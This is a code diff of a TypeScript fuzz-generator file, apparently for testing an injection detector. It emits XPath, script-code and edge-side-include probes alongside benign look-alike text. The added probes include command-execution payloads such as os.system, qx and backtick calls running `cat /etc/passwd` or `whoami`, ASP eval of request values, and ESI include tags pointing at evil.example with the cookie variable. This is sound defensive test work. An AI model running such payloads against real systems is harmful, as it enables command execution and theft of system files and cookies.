@@ -1,7 +1,9 @@
-// Probes that tools other than the corpus's send for injection classes the corpus barely holds:
-// XPath injection (axis steps, unions after a closed predicate, location paths to node tests), each
-// built from its grammar's parts, and the benign text next to each (code with `::`, IPv6, prose about
-// XPath, tables). Each generator draws its parts from a seed (rng.ts).
+// Probes that tools other than the corpus's send for injection classes the corpus barely holds, each
+// built from its grammar's parts, and the benign text next to each: XPath injection (axis steps,
+// unions after a closed predicate; benign: code with `::`, IPv6, prose about XPath, tables); script
+// code in Perl, Python, Ruby, PHP and classic ASP that prints a computation or runs a command (benign:
+// prose that prints, echoes, evaluates requests, names os.system); edge-side includes. Each generator
+// draws its parts from a seed (rng.ts).
 import fc from "fast-check";
 import { rng, type R } from "./rng.js";
 
@@ -16,7 +18,7 @@ const blank = (r: R) => pick(r, ["", " ", "  "]);
 export const xpathAxis: fc.Arbitrary<string> = fc.nat().map((seed) => {
   const r = rng(seed);
   const axis = pick(r, AXES);
-  const step = r(4) ? `/${axis}::${nodeTest(r)}` : `${axis}::${pick(r, ["node()", "text()"])}`;
+  const step = `/${axis}::${nodeTest(r)}`;
   const path = pick(r, ["", "/*[1]", "/" + name(r), "/*"]) + step;
   const fn = pick(r, ["count", "string-length", "name", "local-name", "boolean", "string"]);
   switch (r(4)) {
@@ -37,16 +39,6 @@ export const xpathUnion: fc.Arbitrary<string> = fc.nat().map((seed) => {
   return `${pick(r, ["", "x", "admin", "1"])}${quote}${closers}${blank(r)}|${blank(r)}${any}${reopen}`;
 });
 
-/** A value that is a location path or a call on one, stepping to `text()`/`node()`: `//user[name/text()='a']`. */
-export const xpathPath: fc.Arbitrary<string> = fc.nat().map((seed) => {
-  const r = rng(seed);
-  const quote = q(r);
-  const test = pick(r, ["text()", "node()", "Text()"]);
-  const pred = `[${name(r)}/${test}=${quote}${pick(r, ["admin", "x", "", "1"])}${quote}${pick(r, ["", ` and ${name(r)}/${test}=${quote}y${quote}`, " or 1=1"])}]`;
-  const path = `${pick(r, ["//", "/", "/*/"])}${name(r)}${pred}${pick(r, ["", "/" + name(r) + "/" + test, "/" + test])}`;
-  return r(3) ? path : `${pick(r, ["count", "string-length", "string"])}(${path})`;
-});
-
 /** Code with `::`, addresses, tables, pipes and prose that names XPath's functions and axes. */
 export const xpathBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
   const r = rng(seed);
@@ -62,4 +54,60 @@ export const xpathBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
     case 8: return `A | B | ${pick(r, ["C", "D"])}`;
     default: return `C++: ${pick(r, ["std", "boost", "ns"])}::${pick(r, ["string", "optional<int>", "map"])} x; // ${r(99)}`;
   }
+});
+
+// --- script code ----------------------------------------------------------------------------------
+
+const num = (r: R) => String(pick(r, [1337, 13, 37, 9, 7, 31337, 1000 + r(9000)]));
+/** What precedes an injected statement: nothing, a separator, a closed string joined on. */
+const opener = (r: R) => pick(r, ["", ";", "';", '";', "1;", "x);", "'+", '"+', "{", "%>", "';\n"]);
+const closer = (r: R) => pick(r, ["", ";", ";'", ';"', "+'", '+"', "#", ";#", ";//", ";}"]);
+
+/** An output statement at a statement start whose argument computes or runs a command. */
+export const computeProbe: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  const kw = pick(r, ["print", "echo", "die", "warn", "puts", "say", "printf", "PRINT", "Response.Write", "response.write"]);
+  const expr = r(5) ? `${num(r)}${blank(r)}*${blank(r)}${num(r)}` : "`" + pick(r, ["id", "whoami", "uname -a", "cat /etc/passwd"]) + "`";
+  const call = kw.toLowerCase() === "response.write" || r(2) ? `${kw}(${expr})` : `${kw} ${expr}`;
+  return `${opener(r)}${call}${closer(r)}`;
+});
+
+/** ASP's eval/execute of a request value, Response.Write of a string; Python's module calls; Perl's qx and Ruby's %x. */
+export const scriptExec: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  const cmd = pick(r, ["id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "sleep 5"]);
+  const s = q(r);
+  switch (r(5)) {
+    case 0: return `${opener(r)}${pick(r, ["eval", "Eval", "execute", "Execute"])} ${pick(r, ["request", "Request"])}${pick(r, ['("cmd")', "(\"x\")", '.Form("c")', '.QueryString("q")', '["a"]'])}${closer(r)}`;
+    case 1: return `${opener(r)}Response.Write(${s}${pick(r, ["hello", "<b>x</b>", "ok"])}${s})${closer(r)}`;
+    case 2: return `${opener(r)}${pick(r, ["__import__", "os.system", "os.popen", "subprocess.check_output", "subprocess.call", "subprocess.Popen", "subprocess.run"])}(${r(2) ? s + (r(2) ? "os" : cmd) + s : `[${s}${cmd.split(" ")[0]}${s}]`})${pick(r, ["", ".read()", ".system('id')", closer(r)])}`;
+    case 3: return `${opener(r)}qx${pick(r, ["(", "{", "[", "|", "!"])}${cmd}${pick(r, [")", "}", "]", "|", "!"])}${closer(r)}`;
+    default: return `${opener(r)}%x${pick(r, ["(", "{", "[", "|", "!"])}${cmd}${pick(r, [")", "}", "]", "|", "!"])}${closer(r)}`;
+  }
+});
+
+/** Prose that prints, echoes, evaluates requests and names Python's calls; printf formats. */
+export const scriptBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  const n = r(9) + 2;
+  switch (r(10)) {
+    case 0: return `Please print ${n}*${n + 1} copies of the report`;
+    case 1: return `${pick(r, ["say", "warn", "print", "echo"])} ${n}*${n} ${pick(r, ["times", "people", "pages"])}`;
+    case 2: return `Type print(${n}*${n}) in the REPL to see ${n * n}`;
+    case 3: return `${pick(r, ["Eval", "Execute"])} request ${pick(r, ["from the team", "approved", "no. " + r(999)])}: please review`;
+    case 4: return `The Response.Write method sends output; use Response.Write() in classic ASP`;
+    case 5: return `Call os.system() only with trusted input; the subprocess.run docs say check=True`;
+    case 6: return `__import__ is a builtin, see chapter ${n}`;
+    case 7: return `Hex with %x (lowercase) or %X, ${n}% x ${n}`;
+    case 8: return `The qx${r(900) + 100} series ships in May (${n} units)`;
+    default: return `We print ${n}*${n + 2} handouts for the meeting`;
+  }
+});
+
+/** An edge-side include tag, as a cache in front assembles pages from. */
+export const esiTag: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  const tag = pick(r, ["esi:include", "ESI:include", "esi:vars", "esi:debug", "esi:assign", "esi:inline", "esi:eval", "esi:choose", "esi:comment"]);
+  const attrs = pick(r, [` src="http://${pick(r, ["evil", "oast", "x" + r(99)])}.example/"`, ` src=/secret`, "", ` name="x" value="y"`, ` text="${r(9)}"`]);
+  return `${pick(r, ["", "x", "<p>", "hello "])}<${tag}${attrs}${pick(r, ["/>", ">", " />"])}${pick(r, ["", "$(HTTP_COOKIE)</" + tag + ">"])}`;
 });
